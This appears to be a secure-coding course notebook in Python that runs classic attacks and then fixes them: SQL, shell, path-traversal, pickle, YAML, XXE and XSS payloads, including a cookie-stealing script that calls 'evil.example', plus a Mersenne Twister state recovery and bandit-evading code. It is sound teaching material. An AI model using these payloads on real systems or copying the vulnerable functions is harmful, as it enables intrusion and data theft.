@@ -1,0 +1,483 @@
+# ---
+# jupyter:
+#   jupytext:
+#     text_representation:
+#       extension: .py
+#       format_name: percent
+# ---
+
+# %% [markdown] course={"kind": "intro"}
+# **By the end of this section** you can break and then fix the classic holes in Python services (SQL, shell and
+# LDAP injection, path traversal, unsafe deserialization, XXE, XSS), choose the right primitive for secrets and
+# crypto (`secrets`, argon2, AES-GCM, RSA-OAEP), and audit code with `bandit` and with a scanner of your own.
+#
+# **What is real here.** Every attack in this notebook really runs, against real code, inside throw-away temporary
+# folders and in-memory databases: the SQL is executed by **SQLite** (the `sqlite3` module), the shell is the real
+# `/bin/sh`, the XML parsers, PyYAML, `pickle`, Jinja2, `cryptography`, `argon2-cffi` and `bandit` are the real
+# libraries. We use SQLite rather than the course's PostgreSQL server on purpose: an injection lives in how the
+# *application* glues text into SQL, which is the same for every database, and SQLite needs no server start.
+# (With PostgreSQL and psycopg the placeholder is `%s` instead of `?`; everything else here carries over.)
+# There is **no LDAP server**: the LDAP exercise builds filter strings only. Nothing leaves this machine.
+
+# %% course={"kind": "setup", "id": "security-helpers"}
+# What the demos and tests share. `scratch_dir(tag)` (course/runtime/scratch.py) is a new temporary folder that is
+# removed when the kernel exits; `FakeClock` (course/runtime/clock.py) is a clock that moves only when told;
+# `bandit_report` / `project` (course/runtime/lint.py) run the real bandit on a folder of files we write.
+import ast
+import hashlib
+import hmac
+import html
+import os
+import pickle
+import random
+import re
+import secrets
+import shlex
+import sqlite3
+import subprocess
+import unicodedata
+from pathlib import Path
+
+from argon2 import PasswordHasher
+
+from course.runtime.clock import FakeClock
+from course.runtime.lint import bandit_report, project
+from course.runtime.scratch import scratch_dir
+
+# Cheap argon2 settings so that the notebook stays fast. Production uses the library defaults (or stronger).
+HASHER = PasswordHasher(time_cost=1, memory_cost=8192, parallelism=1)
+
+
+def shop_db() -> sqlite3.Connection:
+    """A new in-memory shop: `users(id, name, role)`, `cards(user_id, number)` (what an attacker wants) and
+    `products(name, price, stock, cost)` (`cost` is internal: customers must never sort or see by it)."""
+    db = sqlite3.connect(":memory:")
+    db.executescript(
+        "CREATE TABLE users (id INTEGER PRIMARY KEY, name TEXT UNIQUE NOT NULL, role TEXT NOT NULL);"
+        "INSERT INTO users VALUES (1, 'alice', 'admin'), (2, 'bob', 'customer'), (3, 'O''Brien', 'customer');"
+        "CREATE TABLE cards (user_id INTEGER, number TEXT);"
+        "INSERT INTO cards VALUES (1, '4111-1111-1111-1111'), (2, '5500-0000-0000-0004');"
+        "CREATE TABLE products (name TEXT, price REAL, stock INTEGER, cost REAL);"
+        "INSERT INTO products VALUES ('kettle', 25.0, 3, 9.0), ('anvil', 99.5, 1, 20.0),"
+        " ('mug', 4.25, 40, 30.0), ('lamp', 12.0, 7, 1.5);"
+    )
+    return db
+
+
+# %% [markdown] course={"kind": "lesson", "id": "owasp", "covers": ["c-owasp-top-10", "c-injection-attacks", "c-broken-authentication", "c-sensitive-data-exposure", "c-xml-external-entities", "c-broken-access-control", "c-security-misconfiguration", "c-cross-site-scripting-xss", "c-insecure-deserialization", "c-known-vulnerabilities", "c-insufficient-logging"]}
+# ### The OWASP Top 10 as a map of this notebook
+#
+# The **OWASP Top 10** is a ranked list of the web application risk categories seen most in real incidents,
+# published by the Open Worldwide Application Security Project and revised every few years. It is an awareness
+# document, not a standard you "comply with": a checklist of what to look for in a review. The roadmap's list mixes
+# names from the 2017 edition (XXE, sensitive data exposure, insecure deserialization, insufficient logging);
+# the **2021** edition regrouped them. Where each one is met in this notebook:
+#
+# | 2021 category | roadmap name (2017) | what goes wrong | where here |
+# |---|---|---|---|
+# | A01 Broken Access Control | broken access control | a user reaches data or files that are not theirs | path traversal lesson, `safe_join` |
+# | A02 Cryptographic Failures | sensitive data exposure | plaintext secrets, weak or home-made crypto, ECB | crypto lesson, password hashing |
+# | A03 Injection (XSS is in here since 2021) | injection, XSS | input becomes code: SQL, shell, LDAP, HTML | injection lessons, 4 exercises |
+# | A04 Insecure Design | – | the flow itself is unsafe (a reset token that never expires) | reset-token exercise |
+# | A05 Security Misconfiguration (XXE is in here since 2021) | misconfiguration, XXE | unsafe defaults, parser features left on | secure defaults, XML lesson |
+# | A06 Vulnerable and Outdated Components | known vulnerabilities | a dependency with a published CVE | auditing lesson (`pip-audit`) |
+# | A07 Identification and Authentication Failures | broken authentication | guessable tokens, no lockout, user enumeration | tokens, user service project |
+# | A08 Software and Data Integrity Failures (deserialization is in here) | insecure deserialization | `pickle`/`yaml.load` of untrusted bytes | deserialization lesson |
+# | A09 Security Logging and Monitoring Failures | insufficient logging | attacks leave no trace, or logs leak passwords | user service audit log |
+# | A10 Server-Side Request Forgery | – | the server fetches a URL the attacker chose | (not run here) |
+#
+# **The one thing people get wrong:** treating the list as complete. It is the most *common* risks, ranked by data;
+# a service that avoids all ten can still be broken by a logic flaw no list names.
+
+# %% [markdown] course={"kind": "lesson", "id": "sql-injection", "covers": ["c-injection-prevention", "c-sql-injection", "c-parameterized-queries"]}
+# ### SQL injection: exploit it, then close it with parameters
+#
+# A query built by pasting user input into SQL text lets the input *change the query's structure*. The attacker
+# closes your quote and writes SQL of their own. The fix is not escaping by hand but **parameterized queries**:
+# the SQL text is fixed and the values travel separately (`?` in `sqlite3`, `%s` in psycopg), so the database
+# never parses them as SQL, whatever characters they contain. The demo runs two classic payloads against a
+# vulnerable lookup and the same payloads against the parameterized one.
+
+# %% course={"kind": "demo"}
+demo_db = shop_db()
+
+
+def user_vulnerable(name: str) -> list[tuple]:
+    return demo_db.execute(f"SELECT id, name, role FROM users WHERE name = '{name}'").fetchall()
+
+
+def user_parameterized(name: str) -> list[tuple]:
+    return demo_db.execute("SELECT id, name, role FROM users WHERE name = ?", (name,)).fetchall()
+
+
+payloads = ["bob", "' OR '1'='1", "nobody' UNION SELECT user_id, number, 'stolen' FROM cards --", "O'Brien"]
+for payload in payloads:
+    try:
+        leaked = user_vulnerable(payload)
+    except sqlite3.Error as error:
+        leaked = f"{type(error).__name__}: {error}"
+    print(f"{payload!r}\n   f-string:      {leaked}\n   parameterized: {user_parameterized(payload)}")
+
+# %% [markdown] course={"kind": "text"}
+# Read the output: `' OR '1'='1` turns the `WHERE` into "always true" (a login check built this way lets anyone in
+# as the first user, here the admin); the `UNION` payload appends a second query and reads the card numbers; and
+# the honest customer `O'Brien` breaks the vulnerable version with a syntax error. The parameterized version
+# answers all four correctly.
+#
+# **Identifiers cannot be parameters.** A placeholder stands for a *value*, never for a column or table name or a
+# keyword such as `ASC`. `ORDER BY ?` is legal SQL but sorts by the constant string you passed, i.e. not at all.
+# For a user-chosen sort column, map the input through an **allowlist** of known column names:
+
+# %% course={"kind": "demo"}
+print("ORDER BY ? with 'price':", demo_db.execute("SELECT name FROM products ORDER BY ?", ("price",)).fetchall())
+SORTABLE = {"name": "name", "price": "price"}  # user word -> our own column name
+print("allowlisted  'price':   ", demo_db.execute(f"SELECT name FROM products ORDER BY {SORTABLE['price']}").fetchall())
+print("'cost' allowed?", "cost" in SORTABLE, "| 'price; DROP TABLE users' allowed?", "price; DROP TABLE users" in SORTABLE)
+
+# %% [markdown] course={"kind": "lesson", "id": "command-injection", "covers": ["c-command-injection", "c-ldap-injection"]}
+# ### Command injection and LDAP injection
+#
+# `subprocess.run(f"grep {word} notes.txt", shell=True)` hands one string to `/bin/sh`, and the shell reads `;`,
+# `&&`, `|`, `$(...)` and backquotes as its own syntax. An input like `x; touch PWNED` runs a second command.
+# The fix: pass an **argv list** and no shell (`subprocess.run(["grep", "-e", word, "notes.txt"])`): each item
+# reaches the program as one argument, and no shell is involved. When a shell is truly needed, quote every piece
+# with `shlex.quote`. One more trap: an argument starting with `-` is read as an *option* by most programs; `--`
+# (or `-e PATTERN` for grep) ends option parsing.
+#
+# **LDAP injection** is the same idea in LDAP search filters, such as `(&(objectClass=person)(uid=alice))`: a
+# user name `*)(uid=*` changes the filter's structure. RFC 4515 says how to escape a value: the characters
+# `*`, `(`, `)`, `\` and NUL are written as `\` plus two hex digits. (An exercise below writes the escaper; there is
+# no LDAP server in this notebook.)
+
+# %% course={"kind": "demo"}
+box = scratch_dir("sec191-shell")
+(box / "notes.txt").write_text("deploy on friday\nrollback plan\n", encoding="utf-8")
+evil = "friday; touch PWNED"
+shell_run = subprocess.run(f"grep -c {evil} notes.txt", shell=True, cwd=box, capture_output=True, text=True)
+print("shell=True   -> PWNED created:", (box / "PWNED").exists(), "| exit", shell_run.returncode)
+(box / "PWNED").unlink()
+argv_run = subprocess.run(["grep", "-c", "-e", evil, "--", "notes.txt"], cwd=box, capture_output=True, text=True)
+print("argv list    -> PWNED created:", (box / "PWNED").exists(), "| matches:", argv_run.stdout.strip())
+print("shlex.quote  ->", "grep -c " + shlex.quote(evil) + " notes.txt")
+
+# %% [markdown] course={"kind": "lesson", "id": "traversal", "covers": ["c-broken-access-control"]}
+# ### Path traversal: `..`, absolute paths and symlinks
+#
+# A download endpoint that serves `base / user_path` serves `/etc/passwd` when `user_path` is `../../etc/passwd`,
+# or simply `/etc/passwd`: `Path("base") / "/etc/passwd"` *is* `/etc/passwd`, the absolute part wins. A symlink
+# inside the folder that points outside does the same without any `..` in the name. Checking the text
+# (`".." in user_path`, `startswith(base)`) misses cases; the robust check works on the **resolved** path:
+# `(base / user_path).resolve()` follows `..` and symlinks, then `is_relative_to(base.resolve())` (Python 3.9+)
+# compares whole path components, so `/srv/files-evil` is not inside `/srv/files`.
+
+# %% course={"kind": "demo"}
+site = scratch_dir("sec191-paths")
+(site / "public").mkdir()
+(site / "public" / "readme.txt").write_text("hello", encoding="utf-8")
+(site / "private.txt").write_text("db password: hunter2", encoding="utf-8")
+(site / "public" / "shortcut").symlink_to(site / "private.txt")
+public = site / "public"
+for asked in ["readme.txt", "../private.txt", str(site / "private.txt"), "shortcut"]:  # the 3rd is absolute
+    joined = public / asked
+    naive_ok = ".." not in asked
+    robust_ok = joined.resolve().is_relative_to(public.resolve())
+    print(f"{asked if len(asked) < 20 else '/tmp/.../private.txt':>20}  text check: {'allow' if naive_ok else 'deny':5}  resolve check: {'allow' if robust_ok else 'deny'}")
+
+# %% [markdown] course={"kind": "lesson", "id": "unsafe-parsers", "covers": ["c-insecure-deserialization", "c-xml-external-entities", "c-cross-site-scripting-xss"]}
+# ### Parsers that run code: pickle, YAML, XML entities, HTML
+#
+# **pickle** is a program for a small virtual machine, not a data format: an object's `__reduce__` tells the
+# loader "call this function with these arguments", and `pickle.loads` obeys. Never unpickle bytes you did not
+# produce yourself (a model file from the internet included); use JSON, or sign the bytes (HMAC) and check before
+# loading. The demo's payload only writes a file into a scratch folder, but it could call anything.
+
+# %% course={"kind": "demo"}
+loot = scratch_dir("sec191-pickle") / "owned.txt"
+
+
+class Innocent:
+    def __reduce__(self):  # what pickle will call at LOAD time
+        return (Path(loot).write_text, ("code ran during pickle.loads",))
+
+
+blob = pickle.dumps(Innocent())
+print("payload bytes:", len(blob), "| file before loads:", loot.exists())
+pickle.loads(blob)
+print("file after loads:", loot.exists(), "->", loot.read_text())
+
+# %% [markdown] course={"kind": "text"}
+# **YAML** has the same problem through tags such as `!!python/object/apply:`. Since PyYAML 5.1 a bare
+# `yaml.load(text)` warned, and in PyYAML 6 it is an error: `Loader` became a required argument. `yaml.safe_load`
+# builds only plain types (dicts, lists, strings, numbers...) and refuses Python tags; `yaml.unsafe_load` (or
+# `Loader=yaml.UnsafeLoader`) still runs them. The demo checks each on this machine's PyYAML.
+
+# %% course={"kind": "demo"}
+import yaml
+
+tagged = "!!python/object/apply:len [[1, 2, 3]]"  # harmless: calls len(), but it could be os.system
+print("PyYAML", yaml.__version__)
+try:
+    yaml.load(tagged)  # type: ignore[call-arg]
+except TypeError as error:
+    print("yaml.load(text):    TypeError:", error)
+try:
+    yaml.safe_load(tagged)
+except yaml.YAMLError as error:
+    print("yaml.safe_load:     refused:", type(error).__name__)
+print("yaml.unsafe_load:   ran len() ->", yaml.unsafe_load(tagged))
+
+# %% [markdown] course={"kind": "text"}
+# **XML External Entities (XXE):** a document's DTD can declare an entity whose value is a file or URL
+# (`<!ENTITY x SYSTEM "file:///etc/passwd">`), and a parser that expands it puts that file into the data, which
+# may be echoed back to the attacker. Internal entities defined in terms of each other ("billion laughs") blow up
+# memory. What this machine's parsers do, checked below: the standard library's `xml.etree.ElementTree` (expat)
+# does **not** fetch external entities (it reports "undefined entity") but **does** expand internal ones;
+# `defusedxml` 0.7.1 refuses any entity declaration with `EntitiesForbidden`. Other parsers (lxml, older
+# Pythons, SAX with `feature_external_ges` turned on) behave differently: use `defusedxml` for untrusted XML and
+# you do not have to remember which.
+
+# %% course={"kind": "demo"}
+import pyexpat
+import xml.etree.ElementTree as ET
+
+import defusedxml.ElementTree as safe_et
+
+secret_file = scratch_dir("sec191-xml") / "secret.txt"
+secret_file.write_text("TOP SECRET", encoding="utf-8")
+xxe = f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "{secret_file.as_uri()}">]><r>&x;</r>'
+laughs = '<!DOCTYPE r [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><r>&b;&b;</r>'
+print("expat", pyexpat.EXPAT_VERSION)
+for label, parse in [("ElementTree", ET.fromstring), ("defusedxml ", safe_et.fromstring)]:
+    for name, document in [("external entity", xxe), ("nested entities", laughs)]:
+        try:
+            print(f"{label} {name}: text of {len(parse(document).text or '')} characters")
+        except Exception as error:
+            print(f"{label} {name}: {type(error).__name__}")
+
+# %% [markdown] course={"kind": "text"}
+# **Cross-site scripting (XSS)** is injection into HTML: a comment `<script>...</script>` rendered as-is runs in
+# every visitor's browser. Escape on *output*, for the context you write into: `html.escape` turns `<`, `>`, `&`
+# and (by default) both quotes into entities. Template engines do it for you when **autoescape** is on; Jinja2's
+# plain `Environment()` has it **off** by default (Flask turns it on for `.html` templates).
+
+# %% course={"kind": "demo"}
+import jinja2
+
+comment = '<script>fetch("https://evil.example/?c="+document.cookie)</script>'
+print("html.escape:       ", html.escape(comment))
+print("Jinja2 default:    ", jinja2.Environment().from_string("<p>{{ c }}</p>").render(c=comment))
+print("Jinja2 autoescape: ", jinja2.Environment(autoescape=True).from_string("<p>{{ c }}</p>").render(c=comment))
+
+# %% [markdown] course={"kind": "lesson", "id": "validation", "covers": ["c-input-validation", "c-sanitization", "c-validation-strategies", "c-allowlisting-vs-denylisting"]}
+# ### Input validation: allowlists, normalise first, validate then use
+#
+# - **Allowlist over denylist.** Say what is allowed (`[a-z0-9_]{3,20}` for a user name, one of three sort
+#   columns) rather than what is forbidden: a denylist of "bad" words misses the spelling you did not think of.
+# - **Normalise first, then validate.** Unicode has many ways to write the "same" text: the fullwidth `＜` becomes
+#   `<` under NFKC normalisation. If a later layer normalises *after* your check, the check saw a different string.
+# - **Validate, then use the validated value**, not the raw one, and convert to the type you need (`int(...)`).
+# - **Sanitization** (changing input to make it safe: stripping tags) is a last resort. It is easy to get wrong;
+#   prefer rejecting bad input, and escaping for the output context (SQL parameters, HTML escaping, argv lists).
+#
+# Validation is a *first* line of defence, never the only one: the query is still parameterized behind it.
+
+# %% course={"kind": "demo"}
+def denylist_ok(text: str) -> bool:
+    return "<script" not in text.lower()
+
+
+NAME = re.compile(r"[a-z0-9_]{3,20}")
+tries = ["alice_01", "<ScRiPt>x</script>", "<svg onload=alert(1)>", "\uff1cscript\uff1e", "ｅｖｅ", "ab"]
+for text in tries:
+    folded = unicodedata.normalize("NFKC", text)
+    print(f"{text!r:26} denylist: {denylist_ok(text)!s:5}  NFKC: {folded!r:22} allowlist: {bool(NAME.fullmatch(folded))}")
+
+# %% [markdown] course={"kind": "lesson", "id": "secure-defaults", "covers": ["c-secure-defaults", "c-principle-of-least-privilege", "c-fail-secure", "c-defense-in-depth", "c-security-misconfiguration"]}
+# ### Secure defaults: least privilege, fail closed, defence in depth
+#
+# - **Least privilege:** every process, token and database login gets only what its job needs. A reporting job
+#   connects read-only; a CI token can push to one repository, not administer the organisation. When it is
+#   compromised (it will be), the damage is bounded.
+# - **Fail secure (fail closed):** when a check itself breaks (the permission service times out, a config key
+#   is missing), deny. Code of the shape `try: allowed = check() except Exception: allowed = True` fails *open*.
+# - **Defence in depth:** several independent layers, so one mistake is not a breach: validate input,
+#   parameterize the query, connect with a least-privilege login, log and alert, encrypt backups.
+# - **Secure by default:** the safe setting needs no configuration (debug off, autoescape on, TLS verification
+#   on); unsafe ones must be asked for explicitly and loudly.
+#
+# The demo shows least privilege enforced by the database itself (a read-only SQLite connection refuses a write
+# even if the application is tricked into sending one) and a permission check failing open versus closed.
+
+# %% course={"kind": "demo"}
+data_dir = scratch_dir("sec191-ro")
+with sqlite3.connect(data_dir / "app.db") as writer:
+    writer.execute("CREATE TABLE orders (id INTEGER)")
+writer.close()
+reader = sqlite3.connect(f"{(data_dir / 'app.db').as_uri()}?mode=ro", uri=True)
+try:
+    reader.execute("DROP TABLE orders")
+except sqlite3.OperationalError as error:
+    print("read-only login, DROP TABLE ->", error)
+reader.close()
+
+
+def permission_service(user: str) -> bool:
+    raise TimeoutError("permission service did not answer")
+
+
+def can_delete_fail_open(user: str) -> bool:
+    try:
+        return permission_service(user)
+    except Exception:
+        return True  # "do not block users when the service is down"
+
+
+def can_delete_fail_closed(user: str) -> bool:
+    try:
+        return permission_service(user)
+    except Exception:
+        return False
+
+
+print("service down -> fail open allows:", can_delete_fail_open("mallory"), "| fail closed allows:", can_delete_fail_closed("mallory"))
+
+# %% [markdown] course={"kind": "lesson", "id": "crypto", "covers": ["c-cryptography-basics", "c-hashing-bcrypt-argon2", "c-encryption-aes-rsa", "c-cryptography-library", "c-when-not-to-roll-your-own"]}
+# ### Cryptography basics: hash, encrypt, and do not invent
+#
+# Section 12.4 built password hashing with PBKDF2 and HS256 JWTs by hand, to see the moving parts. Here we use the
+# libraries a production service should use.
+#
+# | you need | use | one-way? |
+# |---|---|---|
+# | store a password | a slow, salted password hash: **argon2id** (`argon2-cffi`), bcrypt, scrypt | yes: you can only *verify* |
+# | fingerprint data, check integrity | SHA-256 (`hashlib`) | yes, and fast (wrong for passwords) |
+# | prove a message came from a key holder | HMAC-SHA256 (`hmac`) or a signature | – |
+# | keep data secret and detect tampering | **AES-GCM** (authenticated encryption) with a random 96-bit nonce, never reused | no: decrypt with the key |
+# | let anyone encrypt to you | **RSA-OAEP** (or hybrid: RSA/ECDH wraps an AES key) | no: decrypt with the private key |
+#
+# **Never ECB** (each 16-byte block encrypted on its own: equal blocks give equal ciphertext, so patterns show),
+# never a nonce twice with GCM, never RSA without padding ("textbook RSA"). **When not to roll your own:**
+# always, for the primitives and the protocols. Do not invent a cipher, a padding, a token format or a password
+# hash; use `cryptography`'s high-level recipes (`Fernet`, `AESGCM`), TLS, argon2, and a maintained JWT library.
+# Your job is choosing, configuring and storing keys, not designing algorithms.
+
+# %% course={"kind": "demo"}
+from cryptography.exceptions import InvalidTag
+from cryptography.hazmat.primitives import hashes
+from cryptography.hazmat.primitives.asymmetric import padding, rsa
+from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
+from cryptography.hazmat.primitives.ciphers.aead import AESGCM
+
+stored = HASHER.hash("correct horse")
+print("argon2 hash:", stored[:40] + "...", "| same password hashed twice equal?", HASHER.hash("correct horse") == stored)
+print("verify right:", HASHER.verify(stored, "correct horse"))
+
+key = AESGCM.generate_key(bit_length=256)
+nonce = os.urandom(12)
+sealed = AESGCM(key).encrypt(nonce, b"card 4111-1111-1111-1111", b"user=42")
+print("AES-GCM ciphertext + 16-byte tag:", len(sealed), "bytes | decrypts to", AESGCM(key).decrypt(nonce, sealed, b"user=42"))
+tampered = bytes([sealed[0] ^ 1]) + sealed[1:]
+try:
+    AESGCM(key).decrypt(nonce, tampered, b"user=42")
+except InvalidTag:
+    print("one flipped bit -> InvalidTag (GCM detects tampering)")
+
+ecb = Cipher(algorithms.AES(key), modes.ECB()).encryptor()  # shown only to see why not
+blocks = ecb.update(b"ATTACK AT DAWN!!" * 2 + b"RETREAT AT NOON!") + ecb.finalize()
+print("ECB: block 1 == block 2?", blocks[:16] == blocks[16:32], "(the repeat shows through)")
+
+private = rsa.generate_private_key(public_exponent=65537, key_size=2048)
+oaep = padding.OAEP(mgf=padding.MGF1(algorithm=hashes.SHA256()), algorithm=hashes.SHA256(), label=None)
+wrapped = private.public_key().encrypt(key, oaep)  # hybrid: RSA carries the AES key, AES carries the data
+print("RSA-OAEP wrapped the AES key:", len(wrapped), "bytes | unwrapped equal:", private.decrypt(wrapped, oaep) == key)
+
+# %% [markdown] course={"kind": "lesson", "id": "secure-random", "covers": ["c-secure-random", "c-secrets-module", "c-token-generation", "c-random-number-generation"]}
+# ### Secure random: `secrets`, never `random`, for anything an attacker may guess
+#
+# `random` is a Mersenne Twister: fast, reproducible, fine for simulations and shuffling test data, and
+# **predictable**. Anyone who knows the seed gets every value, and even without the seed, 624 consecutive 32-bit
+# outputs are enough to rebuild the generator's whole state and predict every later value. `secrets` draws from
+# the operating system's cryptographic generator (`os.urandom`): `secrets.token_bytes(n)`, `token_hex(n)`,
+# `token_urlsafe(n)` (n random bytes, base64url without padding), `secrets.choice(seq)`.
+# For tokens, 32 bytes (256 bits) is the usual default; 16 bytes (128 bits) is the floor.
+#
+# Comparing a secret with `==` can stop at the first differing byte, so the time taken leaks how much of a guess
+# was right; `hmac.compare_digest(a, b)` takes time depending on the length only. (12.4 already used it.)
+#
+# The demo predicts a `random` generator twice: from its seed, and from 624 of its outputs alone.
+
+# %% course={"kind": "demo"}
+victim = random.Random(2026)
+reset_code = victim.getrandbits(32)
+print("victim's code:", reset_code, "| attacker re-seeding with 2026:", random.Random(2026).getrandbits(32))
+
+
+def untemper(y: int) -> int:
+    """Undo the Mersenne Twister's output scrambling, recovering one 32-bit word of its state."""
+    y ^= y >> 18
+    y ^= (y << 15) & 0xEFC60000
+    undone = y
+    for _ in range(5):
+        undone = y ^ ((undone << 7) & 0x9D2C5680)
+    y = undone & 0xFFFFFFFF
+    undone = y
+    for _ in range(3):
+        undone = y ^ (undone >> 11)
+    return undone & 0xFFFFFFFF
+
+
+seen = [victim.getrandbits(32) for _ in range(624)]  # e.g. 624 "random" ids the service showed us
+clone = random.Random()
+clone.setstate((3, tuple(untemper(v) for v in seen) + (624,), None))
+future = [victim.getrandbits(32) for _ in range(5)]
+print("victim's next 5:   ", future)
+print("attacker predicts: ", [clone.getrandbits(32) for _ in range(5)])
+print("secrets.token_urlsafe(32):", secrets.token_urlsafe(32), "(43 characters, 256 random bits)")
+
+# %% [markdown] course={"kind": "lesson", "id": "auditing", "covers": ["c-known-vulnerabilities", "c-insufficient-logging"]}
+# ### Auditing code: bandit, its report, and what it cannot see
+#
+# **bandit** parses each Python file into an AST and runs checks on it (`B602` subprocess with `shell=True`,
+# `B301` pickle, `B608` SQL built from strings, `B105` a hard-coded password string...). It is fast and belongs in
+# CI, with `-f json` for machines. It is a *pattern* matcher: it does not follow data from a request to a sink,
+# so it misses what it has no rule for and flags safe code that looks risky. The demo runs the real bandit on two
+# small files and shows both kinds of mistake.
+#
+# For **known vulnerabilities** in dependencies the tool is `pip-audit` (installed in this course), which checks
+# your installed packages against the PyPA advisory database; it needs the network, so it is not run here.
+# **Insufficient logging** is the other half of an audit: can you tell, after the fact, who logged in, who failed
+# and who was locked out? The user service project writes exactly such an audit trail.
+
+# %% course={"kind": "demo"}
+import json
+
+audited = project({
+    "jobs.py": (
+        "import subprocess\n"
+        "def archive(name):\n"
+        "    subprocess.run('tar czf backup.tgz ' + name, shell=True)\n"
+        "def lookup(db, name):\n"
+        "    return db.execute(\"SELECT * FROM users WHERE name = '%s'\" % name)\n"
+        "password = 'hunter2'\n"
+    ),
+    "sneaky.py": (
+        "import os\n"
+        "def archive(name):\n"
+        "    getattr(os, 'sys' + 'tem')('tar czf backup.tgz ' + name)  # the same shell hole, spelled oddly\n"
+        "def lookup(db, name):\n"
+        "    query = ''.join([\"SELECT * FROM users WHERE name = '\", name, \"'\"])\n"
+        "    return db.execute(query)  # the same SQL hole, built with join\n"
+    ),
+    "safe.py": (
+        "import subprocess\n"
+        "def status():\n"
+        "    return subprocess.run(['git', 'status'], check=True)  # argv list, no shell: safe\n"
+    ),
+})
+report = bandit_report(audited)
+print("one finding as bandit's JSON has it:")
+print(json.dumps({k: report["results"][1][k] for k in ("filename", "line_number", "test_id", "issue_severity", "issue_confidence", "issue_text")}, indent=1))
+for r in report["results"]:
+    print(f"{r['filename']}:{r['line_number']}  {r['test_id']}  {r['issue_severity']:6} {r['issue_confidence']:6} {r['issue_text'][:60]}")
+print("findings in sneaky.py:", sum(r["filename"].endswith("sneaky.py") for r in report["results"]), "(two real holes missed: false negatives)")
+print("findings in safe.py:  ", sum(r["filename"].endswith("safe.py") for r in report["results"]), "(LOW reminders on safe code: false positives to triage)")
